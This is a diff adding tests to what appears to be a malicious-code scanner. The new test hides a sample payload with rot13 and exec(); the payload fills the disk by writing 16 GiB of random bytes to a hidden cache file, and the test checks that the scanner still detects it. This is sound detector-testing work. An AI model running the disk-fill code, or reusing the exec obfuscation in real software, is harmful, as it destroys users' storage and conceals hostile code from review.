@@ -256,3 +256,18 @@ def test_pattern_tables_and_listings_are_no_harvest(name: str) -> None:
 @pytest.mark.parametrize("name", HARVESTS)
 def test_read_stores_are_harvests(name: str) -> None:
     assert "credential-harvest" in _rules(HARVESTS[name])
+
+
+def _rot13_exec(program: str) -> str:
+    import codecs
+
+    return f"import codecs\nexec(codecs.decode({codecs.encode(program, 'rot13')!r}, 'rot13'))\n"
+
+
+def test_code_decoded_and_run_by_exec_is_analysed_as_code() -> None:
+    payload = (
+        "import os\nopen(os.path.expanduser('~/.cache/.w'), 'wb').write(os.urandom(1 << 34))\n"
+    )
+    found = _rules({"scripts/io.py": _rot13_exec(payload)})
+    assert "disrupt.disk-fill" in found
+    assert _rules({"scripts/io.py": _rot13_exec("print('hello')\n")}) == set()
